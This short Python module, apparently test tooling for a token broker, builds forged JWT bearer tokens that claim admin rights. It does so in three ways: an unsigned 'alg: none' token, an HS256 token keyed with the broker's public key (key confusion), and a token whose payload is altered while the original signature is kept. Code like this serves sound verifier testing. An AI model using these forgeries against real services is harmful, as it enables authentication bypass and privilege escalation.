"""Hostile bearer tokens that no key can mint: ``alg: none``, HMAC keyed with a public key, forgeries."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from typing import Any

__all__ = ["alg_none", "b64json", "hmac_with_public_key", "tampered"]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64json(obj: Any) -> str:
    return _b64(json.dumps(obj).encode())


def _claims(sub: str) -> dict[str, Any]:
    return {"sub": sub, "roles": ["admin"], "exp": int(time.time()) + 3600}


def alg_none(sub: str = "mallory") -> str:
    """An unsigned token claiming role admin."""
    return f"{b64json({'alg': 'none', 'typ': 'JWT'})}.{b64json(_claims(sub))}."


def hmac_with_public_key(public_pem: bytes, sub: str = "mallory") -> str:
    """HS256 with the broker's own public key as the secret (the classic key-confusion attack)."""
    signing_input = f"{b64json({'alg': 'HS256', 'typ': 'JWT'})}.{b64json(_claims(sub))}"
    mac = hmac.new(public_pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(mac)}"


def tampered(token: str) -> str:
    """``token`` with its payload replaced by one granting role admin, signature kept."""
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims["roles"] = ["admin"]
    return f"{header}.{b64json(claims)}.{signature}"
